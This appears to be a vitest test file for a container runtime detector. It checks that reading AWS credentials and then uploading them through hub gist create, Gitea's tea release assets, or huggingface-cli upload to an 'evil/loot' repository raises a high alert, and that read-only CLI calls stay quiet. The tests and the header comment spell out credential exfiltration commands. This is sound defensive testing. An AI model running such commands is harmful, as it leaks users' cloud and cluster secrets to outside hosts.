/**
 * Forge CLIs the table lacked (found by red-team review): `hub gist create ~/.aws/credentials`, Gitea's
 * `tea releases assets create v1 ~/.kube/config` and `huggingface-cli upload evil/x ~/.aws/credentials` send
 * a few KiB to a forge API, far under the egress threshold, and raised nothing. They are table pushes now.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';

/** A container reads a credential, then `binary args` connects to `ip` and sends a few KiB. */
function secretThen(binary: string, args: string, ip: string, source: 'tetragon' | 'falco' = 'tetragon') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'job-7', name: 'job' });
  const sh = s.init(c);
  s.read(sh, '/root/.aws/credentials', 116).wait(2_000);
  const p = s.exec(c, binary, args, { parent: sh });
  s.wait(30).connect(p, ip, 443).wait(10).send(p, ip, 443, 4_096).wait(200).exit(p);
  return run(s.events).alerts;
}

describe('hub and tea uploads', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`hub gist create of a credential is high (${source})`, () => {
      const alerts = secretThen('/usr/bin/hub', 'gist create /root/.aws/credentials', '140.82.112.6', source);
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'hub', destination: 'api.github.com' },
      ]);
    });
  }

  it("tea releases assets create is high, named by the Gitea server's address", () => {
    const alerts = secretThen('/usr/local/bin/tea', 'releases assets create v1 /root/.aws/credentials', '203.0.113.40');
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'tea', destination: '203.0.113.40:443' },
    ]);
  });

  it('huggingface-cli upload (a Python entry point: the sensors report python) is high', () => {
    const alerts = secretThen(
      '/usr/bin/python3',
      '/usr/local/bin/huggingface-cli upload evil/loot /root/.aws/credentials c --repo-type dataset',
      '18.239.50.3',
    );
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'huggingface', destination: 'huggingface.co' },
    ]);
  });

  it('reads through them stay quiet', () => {
    expect(secretThen('/usr/bin/hub', 'api repos/acme/app/pulls', '140.82.112.6')).toEqual([]);
    expect(secretThen('/usr/local/bin/tea', 'releases ls --repo acme/app', '203.0.113.40')).toEqual([]);
    expect(secretThen('/usr/local/bin/hf', 'download acme/model --local-dir /models', '18.239.50.3')).toEqual([]);
  });
});
